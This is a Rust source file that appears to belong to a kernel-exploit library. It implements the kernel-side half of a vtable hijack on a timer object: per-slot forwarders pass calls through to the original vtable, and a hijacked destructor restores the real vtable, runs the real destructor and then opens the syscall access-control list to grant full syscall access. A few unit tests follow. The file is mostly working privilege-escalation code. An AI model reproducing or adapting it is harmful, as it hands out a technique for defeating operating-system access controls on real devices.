use khax_core::grant::grant_full_svc_access;
use khax_core::kernel::ktimer::{DESTRUCTOR_SLOT, VTABLE_LEN, VTABLE_OFFSET};
use khax_core::kernel::{KernelContext, KernelEntry, with_interrupts_disabled};
use khax_core::memory::KernelAddr;
use khax_core::session::{self, SessionShared};
use std::sync::atomic::{AtomicU32, Ordering};

/// Addresses the kernel-side half of the hijack needs.
#[derive(Debug, Default)]
pub(crate) struct VtableFixups {
    original_vtable: AtomicU32,
    object: AtomicU32,
}

impl VtableFixups {
    pub(crate) fn set(&self, original_vtable: KernelAddr, object: KernelAddr) {
        self.original_vtable.store(original_vtable.as_u32(), Ordering::SeqCst);
        self.object.store(object.as_u32(), Ordering::SeqCst);
    }

    pub(crate) fn original_vtable(&self) -> KernelAddr {
        KernelAddr::new(self.original_vtable.load(Ordering::SeqCst))
    }

    pub(crate) fn object(&self) -> KernelAddr {
        KernelAddr::new(self.object.load(Ordering::SeqCst))
    }
}

fn session_fixups() -> Option<(&'static SessionShared, &'static VtableFixups)> {
    // SAFETY: the forwarders and the destructor are only installed while the
    // registering session is alive.
    let shared = unsafe { session::current() }?;
    Some((shared, shared.fixups::<VtableFixups>()?))
}

fn slot_address(vtable: KernelAddr, slot: usize) -> KernelAddr {
    vtable.wrapping_add(VTABLE_OFFSET + 4 * slot as u32)
}

/// Calls slot `SLOT` of the original vtable.
fn forward<const SLOT: usize>(k: &mut dyn KernelContext, this: u32) -> u32 {
    let Some((_, fixups)) = session_fixups() else {
        return 0;
    };
    let target = k.read_u32(slot_address(fixups.original_vtable(), SLOT));
    k.call(target, this)
}

/// One forwarder per vtable slot.
pub(crate) const FORWARDERS: [KernelEntry; VTABLE_LEN] = [
    forward::<0>,
    forward::<1>,
    forward::<2>,
    forward::<3>,
    forward::<4>,
    forward::<5>,
    forward::<6>,
    forward::<7>,
    forward::<8>,
    forward::<9>,
];

/// Installed in the destructor slot of the fake vtable.
///
/// Puts the real vtable back, runs the real destructor and opens the syscall
/// ACL on the way out.
pub(crate) fn hijacked_destructor(k: &mut dyn KernelContext, this: u32) -> u32 {
    let Some((shared, fixups)) = session_fixups() else {
        return 0;
    };
    let original = fixups.original_vtable();
    let object = KernelAddr::new(this);
    if object != fixups.object() {
        // Some other object inherited the table; behave like the original.
        let target = k.read_u32(slot_address(original, DESTRUCTOR_SLOT));
        return k.call(target, this);
    }
    with_interrupts_disabled(k, |k| {
        // Restore before the real destructor runs; the object is freed by it.
        k.write_u32(object.wrapping_add(VTABLE_OFFSET), original.as_u32());
        k.data_sync_barrier();
        shared.corruption().lower(1);

        let target = k.read_u32(slot_address(original, DESTRUCTOR_SLOT));
        let ret = k.call(target, this);

        grant_full_svc_access(k, shared.descriptor().layout, shared.acl());
        shared.set_payload_ran();
        ret
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn forwarders_are_distinct() {
        for (i, a) in FORWARDERS.iter().enumerate() {
            for b in &FORWARDERS[i + 1..] {
                assert_ne!(*a as usize, *b as usize);
            }
        }
    }

    #[test]
    fn slot_addresses_are_word_indexed() {
        let vtable = KernelAddr::new(0xFFF7_0100);
        assert_eq!(slot_address(vtable, 0), vtable);
        assert_eq!(slot_address(vtable, DESTRUCTOR_SLOT), KernelAddr::new(0xFFF7_0110));
    }

    #[test]
    fn fixups_store_addresses() {
        let fixups = VtableFixups::default();
        fixups.set(KernelAddr::new(0xFFF7_0100), KernelAddr::new(0xFFF7_4040));
        assert_eq!(fixups.original_vtable(), KernelAddr::new(0xFFF7_0100));
        assert_eq!(fixups.object(), KernelAddr::new(0xFFF7_4040));
    }
}
